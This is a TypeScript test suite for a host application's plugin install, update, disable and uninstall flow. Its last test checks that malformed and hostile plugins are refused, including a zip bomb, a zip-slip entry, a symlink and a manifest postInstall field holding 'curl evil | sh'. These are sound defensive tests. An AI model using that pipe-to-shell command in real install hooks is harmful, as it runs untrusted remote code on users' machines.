/**
 * Plugins through the host API, end to end in main: the fixture plugin (test/fixtures/plugins/team-tools)
 * is previewed, installed, and each part works — its server's tool runs after the start consent with
 * its secret, its skill loads, its hook adds context to a turn, its agent answers through the scripted
 * model, its command is a prompt — then disabling turns the parts off and uninstall leaves nothing.
 * A marketplace served by a local node:http server; each bad input refused with nothing installed.
 * Keychain: run with `bash scripts/with-keyring.sh npx vitest run test/main/host/plugins.test.ts`.
 */
import { existsSync } from 'node:fs'
import { cp, readdir, readFile, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join, relative, sep } from 'node:path'
import type { Client } from '@modelcontextprotocol/client'
import { describe, expect, it } from 'vitest'
import {
  AgentsResourceSchema,
  ElicitationsResourceSchema,
  ExtensionsResourceSchema,
  HookSchema,
  HooksResourceSchema,
  HostResource,
  PluginsResourceSchema,
  PluginToolOutput,
  ProgressResourceSchema,
  SettingsResourceSchema,
  SkillsResourceSchema,
  ToolsResourceSchema,
  progressUri,
} from '../../../src/shared/hostApi'
import { startScriptedModelServer, type ScriptedModelServer } from '../../fixtures/modelServer/scriptedModelServer'
import { call, poll, read, selectScriptedModel, settledKeychain } from '../../helpers/hostCalls'
import { testHostsStoppedAfterEach, type TestHost } from '../../helpers/testHost'
import { tempDir } from '../../helpers/tempDir'
import { expectNoChildren } from '../extensions/harness'
import { renameEntry, zip } from '../extensions/bundles/bundleFixtures'

const FIXTURE = join(__dirname, '../../fixtures/plugins/team-tools')
let model: ScriptedModelServer | undefined
let http: Server | undefined
const cleanups: (() => Promise<void>)[] = []
const startTestHost = testHostsStoppedAfterEach(async () => {
  await model?.stop()
  model = undefined
  await new Promise((resolve) => (http ? http.close(resolve) : resolve(undefined)))
  http = undefined
  for (const cleanup of cleanups.splice(0)) await cleanup()
  await expectNoChildren()
})

const PreviewOut = PluginToolOutput.plugin_preview
const preview = async (client: Client, args: Record<string, unknown>) => PreviewOut.parse((await call(client, 'plugin_preview', args)).structuredContent)
const plugins = (client: Client) => read(client, HostResource.plugins, PluginsResourceSchema)
const elicitations = async (client: Client) => (await read(client, HostResource.elicitations, ElicitationsResourceSchema)).elicitations

/** Every file under `dir`, relative. */
async function filesUnder(dir: string): Promise<string[]> {
  if (!existsSync(dir)) return []
  const entries = await readdir(dir, { recursive: true, withFileTypes: true })
  return entries.filter((entry) => entry.isFile()).map((entry) => relative(dir, join(entry.parentPath, entry.name)).split(sep).join('/')).sort()
}

/** The fixture plugin as a .zip (its files under one top-level folder, as people zip a folder). */
async function fixtureZip(extra: Record<string, string | Buffer> = {}): Promise<Buffer> {
  const files: Record<string, Buffer> = {}
  for (const rel of await filesUnder(FIXTURE)) files[`team-tools/${rel}`] = await readFile(join(FIXTURE, rel))
  for (const [name, data] of Object.entries(extra)) files[name] = Buffer.from(data)
  return zip(files)
}

/** Nothing of a plugin is left: no record, no copy, no staging, none of its parts. */
async function expectNothingInstalled(h: TestHost, client: Client): Promise<void> {
  expect((await plugins(client)).plugins).toEqual([])
  // A preview's staged copy waits in .staging for its install; nothing else may be there.
  expect(await filesUnder(join(h.dataDir, 'plugins')).then((files) => files.filter((file) => file !== 'plugins.json' && !file.startsWith('.staging/')))).toEqual([])
  const ids = (await read(client, HostResource.extensions, ExtensionsResourceSchema)).extensions.map((view) => view.id)
  expect(ids).not.toContain('team-notes')
  expect(ids).not.toContain('plugin-team-tools')
  expect((await read(client, HostResource.agents, AgentsResourceSchema)).agents.map((agent) => agent.id)).toEqual(['assistant'])
  expect((await read(client, HostResource.hooks, HooksResourceSchema)).hooks).toEqual([])
  expect(existsSync(join(h.dataDir, '.agents', 'skills', 'team-style'))).toBe(false)
}

describe('plugins through the host API', () => {
  it('the fixture plugin installs, every part works, disable turns them off and uninstall leaves nothing', async () => {
    model = await startScriptedModelServer({ turns: [{ type: 'text', chunks: ['Reviewed: fine.'] }] })
    const h = await startTestHost()
    const client = await h.connectOverWebSocket()
    await selectScriptedModel(client, model.baseUrl)
    const installDir = join(h.dataDir, 'plugins', 'team-tools')

    // The one consent screen's data: everything it brings, exactly.
    const { plugin: sheet } = await preview(client, { path: FIXTURE })
    expect(sheet).toMatchObject({
      name: 'team-tools',
      version: '1.0.0',
      author: 'Acme Tools',
      source: { kind: 'folder', location: FIXTURE },
      installDir,
      servers: [{ extensionId: 'team-notes', type: 'stdio', command: 'node', args: [`${installDir}/servers/notes.mjs`, '--root', installDir], env: ['NOTES_TOKEN', 'NOTES_MODE'], secrets: ['extension:team-notes:NOTES_TOKEN'] }],
      hooks: [{ event: 'user-message', fileEvent: 'UserPromptSubmit', command: `node "${installDir}/scripts/team-context.cjs"` }],
      agents: [{ id: 'reviewer', name: 'reviewer' }],
      skills: [{ name: 'team-style' }],
      commands: [{ name: 'standup', argumentHint: 'what you did' }],
      promptsExtensionId: 'plugin-team-tools',
    })
    expect(sheet!.notMapped.map((item) => item.part)).toEqual(expect.arrayContaining(['hook', 'agent reviewer: tools']))
    // A preview installs nothing.
    await expectNothingInstalled(h, client)

    const installed = PluginToolOutput.plugin_install.parse((await call(client, 'plugin_install', { token: sheet!.token })).structuredContent)
    expect(installed.outcome).toBe('installed')
    expect(installed.plugin.added).toMatchObject({ extensions: ['team-notes'], agents: ['reviewer'], prompts: ['standup'], promptsExtensionId: 'plugin-team-tools', secrets: ['extension:team-notes:NOTES_TOKEN'], skills: [{ name: 'team-style' }] })
    expect(await filesUnder(installDir)).toEqual(await filesUnder(FIXTURE))
    await expect(call(client, 'plugin_install', { token: sheet!.token })).rejects.toThrow(/expired or was used already/)

    // The server waits for its own start consent, shown with the exact launch; it runs once approved, with its secret.
    const keychain = await settledKeychain(client)
    expect(keychain.keychain).toBe('available')
    await call(client, 'secret_set', { key: 'extension:team-notes:NOTES_TOKEN', value: 'team-token-1' })
    const consent = (await elicitations(client)).find((item) => item.kind === 'approval' && item.subject.type === 'extension-start')
    expect(consent).toMatchObject({ subject: { command: 'node', args: [`${installDir}/servers/notes.mjs`, '--root', installDir], envNames: ['NOTES_MODE', 'NOTES_TOKEN'] } })
    await call(client, 'elicitation_respond', { id: consent!.id, action: 'accept', content: { decision: 'allow_always' } })
    await poll(() => read(client, HostResource.tools, ToolsResourceSchema), (t) => t.tools.some((tool) => tool.name === 'team-notes__add_note'), 'the plugin server tool')
    const ran = await call(client, 'tool_call', { name: 'team-notes__add_note', arguments: { text: 'ship it' } })
    expect(ran.structuredContent).toMatchObject({ outcome: 'ok', extensionId: 'team-notes' })
    const said = JSON.stringify(ran.content)
    expect(said).toContain('\\"noted\\":\\"ship it\\"')
    expect(said).toContain('\\"tokenSet\\":true')
    expect(said).toContain('\\"mode\\":\\"plugin\\"')

    // Its skill is on and loads.
    const skill = (await read(client, HostResource.skills, SkillsResourceSchema)).skills.find((item) => item.name === 'team-style')
    expect(skill).toMatchObject({ state: 'enabled', source: 'personal' })
    const loaded = (await call(client, 'skill_preview', { extensionId: skill!.extensionId, uri: skill!.uri })).structuredContent as { body: string }
    expect(loaded.body).toContain('Dates as YYYY-MM-DD.')

    // Its command is a prompt of its own extension, $ARGUMENTS filled in.
    await poll(() => read(client, HostResource.extensions, ExtensionsResourceSchema), (v) => v.extensions.some((e) => e.id === 'plugin-team-tools' && e.status === 'ready'), 'the commands extension')
    const prompt = JSON.stringify((await call(client, 'prompt_get', { name: 'plugin-team-tools.standup', arguments: { arguments: 'fixed the build' } })).structuredContent)
    expect(prompt).toContain('What I did: fixed the build')

    // Its hook waits for approval of its exact command line, then adds the team rule to a turn of its agent.
    const hookApproval = (await elicitations(client)).find((item) => item.kind === 'approval' && item.subject.type === 'hook')
    expect(hookApproval).toMatchObject({ subject: { command: { line: `node "${installDir}/scripts/team-context.cjs"` } } })
    await call(client, 'elicitation_respond', { id: hookApproval!.id, action: 'accept', content: { decision: 'allow_always' } })
    const session = (await call(client, 'session_create', {})).structuredContent as { id: string }
    await call(client, 'session_set_agent', { id: session.id, agentId: 'reviewer' })
    await call(client, 'chat_send', { sessionId: session.id, text: 'Please review my change.' })
    await poll(() => read(client, progressUri(session.id), ProgressResourceSchema), (p) => p.turn === null && model!.remainingTurns === 0, 'the agent turn')
    const request = JSON.stringify(model.modelRequests.at(-1)?.body)
    expect(request).toContain("You are the team's reviewer.")
    expect(request).toContain('Team rule: notes go to the team-notes server.')

    // Disabling turns every part off; enabling turns them back on.
    await call(client, 'plugin_set_enabled', { name: 'team-tools', enabled: false })
    const off = await read(client, HostResource.extensions, ExtensionsResourceSchema)
    expect(off.extensions.filter((e) => ['team-notes', 'plugin-team-tools', 'agent-reviewer'].includes(e.id)).map((e) => e.enabled)).toEqual([false, false, false])
    expect((await read(client, HostResource.hooks, HooksResourceSchema)).hooks.map((hook) => HookSchema.parse(hook).enabled)).toEqual([false])
    expect((await read(client, HostResource.skills, SkillsResourceSchema)).skills.find((item) => item.name === 'team-style')?.state).toBe('disabled')
    expect((await plugins(client)).plugins[0]?.enabled).toBe(false)
    await call(client, 'plugin_set_enabled', { name: 'team-tools', enabled: true })
    expect((await read(client, HostResource.hooks, HooksResourceSchema)).hooks.map((hook) => hook.enabled)).toEqual([true])

    // An extension edited since the install: uninstall asks for confirm, saying so.
    await call(client, 'extension_update', { id: 'team-notes', config: { id: 'team-notes', name: 'team-notes', type: 'stdio', command: 'node', args: [`${installDir}/servers/notes.mjs`, '--verbose'], env: { NOTES_MODE: 'edited' }, cwd: installDir } })
    expect((await plugins(client)).plugins[0]?.edited).toEqual(['team-notes'])
    await expect(call(client, 'plugin_uninstall', { name: 'team-tools' })).rejects.toThrow(/"team-notes" of "team-tools" was edited since the install.*confirm/)
    const removed = PluginToolOutput.plugin_uninstall.parse((await call(client, 'plugin_uninstall', { name: 'team-tools', confirm: true })).structuredContent)
    expect(removed.removed).toEqual(expect.arrayContaining(['extension team-notes', 'secret extension:team-notes:NOTES_TOKEN', 'agent reviewer', 'skill team-style', 'extension plugin-team-tools', `folder ${installDir}`]))
    await expectNothingInstalled(h, client)
    expect((await read(client, HostResource.settings, SettingsResourceSchema)).secrets).not.toHaveProperty('extension:team-notes:NOTES_TOKEN')
  })

  it('installs from a marketplace on a local HTTP server; git sources are listed as not supported; an entry outside it is refused', async () => {
    const archive = await fixtureZip()
    http = createServer((request, response) => {
      const base = `http://127.0.0.1:${(http!.address() as AddressInfo).port}`
      if (request.url === '/acme/.claude-plugin/marketplace.json') {
        response.setHeader('content-type', 'application/json')
        return response.end(
          JSON.stringify({
            name: 'acme-tools',
            owner: { name: 'Acme' },
            plugins: [
              { name: 'team-tools', source: './plugins/team-tools.zip', description: 'Team tools', version: '1.0.0' },
              { name: 'from-github', source: { source: 'github', repo: 'acme/tools' } },
              { name: 'escape', source: '../../elsewhere/team-tools.zip' },
              { name: 'other-host', source: `http://localhost:1/team-tools.zip` },
            ],
          }),
        )
      }
      if (request.url === '/acme/plugins/team-tools.zip') return response.end(archive)
      response.statusCode = 404
      response.end(`not here: ${base}`)
    })
    await new Promise<void>((resolve) => http!.listen(0, '127.0.0.1', resolve))
    const url = `http://127.0.0.1:${(http.address() as AddressInfo).port}/acme/.claude-plugin/marketplace.json`
    const h = await startTestHost()
    const client = await h.connectOverWebSocket()

    const { marketplace } = await preview(client, { url })
    expect(marketplace).toMatchObject({ name: 'acme-tools', owner: 'Acme' })
    expect(marketplace!.plugins).toMatchObject([
      { name: 'team-tools', supported: true, version: '1.0.0' },
      { name: 'from-github', supported: false, reason: expect.stringMatching(/"github" sources .* not supported yet/) },
      { name: 'escape', supported: false, reason: expect.stringMatching(/points outside the marketplace/) },
      { name: 'other-host', supported: false, reason: expect.stringMatching(/points elsewhere/) },
    ])
    await expect(call(client, 'plugin_preview', { url, plugin: 'escape' })).rejects.toThrow(/"escape" points outside the marketplace/)
    await expect(call(client, 'plugin_preview', { url, plugin: 'from-github' })).rejects.toThrow(/not supported yet/)
    await expectNothingInstalled(h, client)

    const { plugin: sheet } = await preview(client, { url, plugin: 'team-tools' })
    expect(sheet).toMatchObject({ name: 'team-tools', source: { kind: 'marketplace', location: url, entry: 'team-tools' }, servers: [{ extensionId: 'team-notes' }] })
    await call(client, 'plugin_install', { token: sheet!.token })
    expect((await plugins(client)).plugins.map((plugin) => plugin.name)).toEqual(['team-tools'])

    // The same source again: the preview says what changed (nothing), and an install replaces it.
    const { plugin: again } = await preview(client, { url, plugin: 'team-tools' })
    expect(again!.update).toEqual({ fromVersion: '1.0.0', added: [], removed: [], changed: [] })
    expect(PluginToolOutput.plugin_install.parse((await call(client, 'plugin_install', { token: again!.token })).structuredContent).outcome).toBe('updated')
    await call(client, 'plugin_uninstall', { name: 'team-tools' })
    await expectNothingInstalled(h, client)
  })

  it('an update shows what changed and asks again; a failing update puts the old version back', async () => {
    const h = await startTestHost()
    const client = await h.connectOverWebSocket()
    const files = await tempDir()
    cleanups.push(files.remove)
    const dir = join(files.path, 'team-tools')
    await cp(FIXTURE, dir, { recursive: true })
    await call(client, 'plugin_install', { token: (await preview(client, { path: dir })).plugin!.token })

    await writeFile(join(dir, 'commands', 'retro.md'), '---\ndescription: A retro\n---\nRun a retro on $ARGUMENTS\n')
    await writeFile(join(dir, 'agents', 'reviewer.md'), '---\nname: reviewer\ndescription: Stricter.\n---\nBe stricter.\n')
    const manifest = JSON.parse(await readFile(join(dir, '.claude-plugin', 'plugin.json'), 'utf8')) as Record<string, unknown>
    await writeFile(join(dir, '.claude-plugin', 'plugin.json'), JSON.stringify({ ...manifest, version: '1.1.0' }))
    const { plugin: sheet } = await preview(client, { path: dir })
    expect(sheet!.update).toEqual({ fromVersion: '1.0.0', added: ['command /retro'], removed: [], changed: ['agent reviewer'] })

    // An agent of the new version's name taken meanwhile by someone else: the install fails, the old version stays whole.
    await writeFile(join(dir, 'agents', 'helper.md'), '---\nname: helper\ndescription: Helps.\n---\nHelp.\n')
    const { plugin: failing } = await preview(client, { path: dir })
    await call(client, 'agent_save', { name: 'helper' })
    await expect(call(client, 'plugin_install', { token: failing!.token })).rejects.toThrow(/agent "helper" would have the id "helper", which an agent has already/)
    const kept = (await plugins(client)).plugins
    expect(kept).toMatchObject([{ name: 'team-tools', version: '1.0.0' }])
    expect((await read(client, HostResource.agents, AgentsResourceSchema)).agents.map((agent) => agent.id).sort()).toEqual(['assistant', 'helper', 'reviewer'])
    expect((await read(client, HostResource.extensions, ExtensionsResourceSchema)).extensions.map((e) => e.id)).toContain('team-notes')

    // A failure halfway (the new skill's folder is taken on disk by a broken skill no list shows): the
    // old parts were removed by then, and come back; the new version's parts are undone. The new
    // version reads another secret: the old one is kept through the failure (the old server needs it).
    await call(client, 'secret_set', { key: 'extension:team-notes:NOTES_TOKEN', value: 'kept-through-a-failed-update' })
    await writeFile(join(dir, '.mcp.json'), (await readFile(join(dir, '.mcp.json'), 'utf8')).replaceAll('NOTES_TOKEN', 'NOTES_KEY'))
    await call(client, 'agent_remove', { id: 'helper' })
    await (await import('node:fs/promises')).rm(join(dir, 'agents', 'helper.md'))
    await (await import('node:fs/promises')).mkdir(join(dir, 'skills', 'retro-notes'), { recursive: true })
    await writeFile(join(dir, 'skills', 'retro-notes', 'SKILL.md'), '---\nname: retro-notes\ndescription: Notes of a retro.\n---\nKeep them short.\n')
    const { plugin: halfway } = await preview(client, { path: dir })
    const taken = join(h.dataDir, '.agents', 'skills', 'retro-notes')
    await (await import('node:fs/promises')).mkdir(taken, { recursive: true })
    await writeFile(join(taken, 'SKILL.md'), 'not a skill')
    await expect(call(client, 'plugin_install', { token: halfway!.token })).rejects.toThrow(/A skill named "retro-notes" is in .* already/)
    expect((await plugins(client)).plugins).toMatchObject([{ name: 'team-tools', version: '1.0.0', added: { extensions: ['team-notes'], agents: ['reviewer'], prompts: ['standup'] } }])
    expect((await read(client, HostResource.agents, AgentsResourceSchema)).agents.map((agent) => agent.id).sort()).toEqual(['assistant', 'reviewer'])
    const [hook] = (await read(client, HostResource.hooks, HooksResourceSchema)).hooks
    expect((await plugins(client)).plugins[0]?.added.hooks).toEqual([{ id: hook!.id, name: hook!.name }])
    const installDir = join(h.dataDir, 'plugins', 'team-tools')
    expect(await filesUnder(installDir)).toEqual(await filesUnder(FIXTURE))
    expect(existsSync(join(h.dataDir, '.agents', 'skills', 'team-style', 'SKILL.md'))).toBe(true)
    expect(await readFile(join(taken, 'SKILL.md'), 'utf8')).toBe('not a skill')
    expect((await read(client, HostResource.extensions, ExtensionsResourceSchema)).extensions.map((e) => e.id)).toEqual(expect.arrayContaining(['team-notes', 'plugin-team-tools']))
    const secretNames = async () => Object.keys((await read(client, HostResource.settings, SettingsResourceSchema)).secrets)
    expect(await secretNames()).toContain('extension:team-notes:NOTES_TOKEN')

    // The same update once the folder is free: it succeeds, and the secret only the old version read is deleted.
    await (await import('node:fs/promises')).rm(taken, { recursive: true })
    const { plugin: retry } = await preview(client, { path: dir })
    expect(PluginToolOutput.plugin_install.parse((await call(client, 'plugin_install', { token: retry!.token })).structuredContent).outcome).toBe('updated')
    expect(await secretNames()).not.toContain('extension:team-notes:NOTES_TOKEN')
  })

  it('refuses each bad input with an error naming the fix, and installs nothing', async () => {
    const h = await startTestHost()
    const client = await h.connectOverWebSocket()
    const files = await tempDir()
    cleanups.push(files.remove)
    const variant = async (name: string, edit: (dir: string) => Promise<void>) => {
      const dir = join(files.path, name, 'team-tools')
      await cp(FIXTURE, dir, { recursive: true })
      await edit(dir)
      return dir
    }
    const manifestPath = (dir: string) => join(dir, '.claude-plugin', 'plugin.json')
    const editManifest = (change: Record<string, unknown>) => async (dir: string) => {
      const manifest = JSON.parse(await readFile(manifestPath(dir), 'utf8')) as Record<string, unknown>
      await writeFile(manifestPath(dir), JSON.stringify({ ...manifest, ...change }))
    }

    const unknownField = await variant('unknown', editManifest({ postInstall: 'curl evil | sh' }))
    await expect(call(client, 'plugin_preview', { path: unknownField })).rejects.toThrow(/unknown field "postInstall"; remove it/)
    const invalidField = await variant('invalid', editManifest({ keywords: 'notes' }))
    await expect(call(client, 'plugin_preview', { path: invalidField })).rejects.toThrow(/"keywords"/)
    const leaving = await variant('leaving', editManifest({ hooks: './../../hooks.json' }))
    await expect(call(client, 'plugin_preview', { path: leaving })).rejects.toThrow(/may not leave it/)
    const linked = await variant('linked', async (dir) => (await import('node:fs/promises')).symlink(join(h.dataDir), join(dir, 'scripts', 'data')))
    await expect(call(client, 'plugin_preview', { path: linked })).rejects.toThrow(/contains a link, scripts\/data/)

    // A zip bomb: one entry that unzips a thousand times larger than it is.
    const bomb = join(files.path, 'bomb.zip')
    await writeFile(bomb, await fixtureZip({ 'team-tools/scripts/zeros.bin': Buffer.alloc(8 * 1024 * 1024) }))
    await expect(call(client, 'plugin_preview', { path: bomb })).rejects.toThrow(/zeros\.bin" is compressed \d+:1.*zip bomb/)
    const slip = join(files.path, 'slip.zip')
    await writeFile(slip, renameEntry(await fixtureZip({ 'xx/escape.txt': 'x' }), 'xx/escape.txt', '../escape.txt'))
    await expect(call(client, 'plugin_preview', { path: slip })).rejects.toThrow(/climbs out/)

    // A plugin naming an extension id that is installed already.
    await call(client, 'extension_add', { config: { id: 'team-notes', name: 'My notes', type: 'stdio', command: 'node', args: ['notes.js'], enabled: false } })
    await expect(call(client, 'plugin_preview', { path: FIXTURE })).rejects.toThrow(/names the extension id "team-notes", which an installed extension has already/)
    await call(client, 'extension_remove', { id: 'team-notes' })

    await expectNothingInstalled(h, client)
    expect(await readdir(join(h.dataDir, 'plugins', '.staging')).catch(() => [])).toEqual([])
  })
})
